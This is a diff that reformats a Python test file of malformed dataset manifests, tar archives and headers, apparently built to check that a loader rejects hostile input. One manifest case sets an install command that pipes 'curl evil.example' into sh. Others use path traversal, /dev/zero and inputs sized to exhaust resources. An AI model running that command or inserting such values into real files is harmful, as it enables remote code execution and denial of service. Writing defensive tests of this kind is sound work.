@@ -141,7 +141,9 @@ def simple(name: str, edit: Callable[[list[Sample]], Any], **how: Any) -> None:
     CASES[name] = lambda root: edited(root, edit, **how)
 
 
-def of_manifest(name: str, edit: Callable[[dict[str, Any]], Any], raw: Callable[[str], str] = lambda text: text) -> None:
+def of_manifest(
+    name: str, edit: Callable[[dict[str, Any]], Any], raw: Callable[[str], str] = lambda text: text
+) -> None:
     CASES[name] = lambda root: manifest(root, edit, raw)
 
 
@@ -198,7 +200,10 @@ simple("metadata_deep", lambda s: s[1].update(text="[" * 50_000))
 simple("views_are_no_safetensors", lambda s: s[1].update(raw=b"\x80\x04not safetensors"))
 simple("views_header_of_exabytes", lambda s: s[1].update(raw=struct.pack("<Q", 2**62) + b"{}"))
 simple("class_beyond", lambda s: s[1].update(label="10"))
-simple("two_rows_of_one_rank", lambda s: s[1].update(label=s[0]["label"], meta=s[1]["meta"] | {"rank": s[0]["meta"]["rank"]}))
+simple(
+    "two_rows_of_one_rank",
+    lambda s: s[1].update(label=s[0]["label"], meta=s[1]["meta"] | {"rank": s[0]["meta"]["rank"]}),
+)
 
 # ------------------------------------------------------------------ images
 
@@ -264,7 +269,9 @@ archive("tar_with_something_in_a_padding", lambda m: packed(m)[:700] + b"X" + pa
 archive("tar_with_something_behind_its_end", lambda m: packed(m, b"hello"))
 archive("tar_of_another_owner", lambda m: packed([(header(m[0][0][:12].decode(), 1, uid=7), m[0][1]), *m[1:]]))
 archive("tar_with_holes", lambda m: put(m, 3, (header("00000099.png", 0, type=b"S"), b"")))
-archive("tar_with_3000_pax_headers", lambda m: put(m, 0, *[(header("x", 20, type=b"x"), b"20 comment=123456789\n")] * 3000))
+archive(
+    "tar_with_3000_pax_headers", lambda m: put(m, 0, *[(header("x", 20, type=b"x"), b"20 comment=123456789\n")] * 3000)
+)
 archive("tar_of_zeros", lambda m: bytes(10240))
 simple("records_elsewhere", lambda s: None, rows=lambda r: r[1].__setitem__(2, r[1][2] + 512))
 simple("records_of_another_hash", lambda s: None, rows=lambda r: r[1].__setitem__(4, "0" * 64))
@@ -301,8 +308,13 @@ of_manifest("manifest_path_outside", lambda d: d["shards"][0].update(path="../..
 of_manifest("manifest_class_less", lambda d: d["classes"].pop())
 of_manifest("manifest_views_of_another_count", lambda d: d["views"].update(count=6))
 of_manifest("manifest_install_command", lambda d: d.update(install="curl evil.example | sh"))
-of_manifest("manifest_protocol_is_a_file", lambda d: d["views"].update(protocol="/dev/zero") or d["recommended"].update(protocol="evil.toml", definition=None))
-of_manifest("manifest_millions_of_lists", lambda d: None, lambda text: '{"format": 1, "x": [' + "[]," * 3_000_000 + "[]]}")
+of_manifest(
+    "manifest_protocol_is_a_file",
+    lambda d: d["views"].update(protocol="/dev/zero") or d["recommended"].update(protocol="evil.toml", definition=None),
+)
+of_manifest(
+    "manifest_millions_of_lists", lambda d: None, lambda text: '{"format": 1, "x": [' + "[]," * 3_000_000 + "[]]}"
+)
 of_manifest("manifest_of_a_newer_format", lambda d: d.update(format=2))
 
 
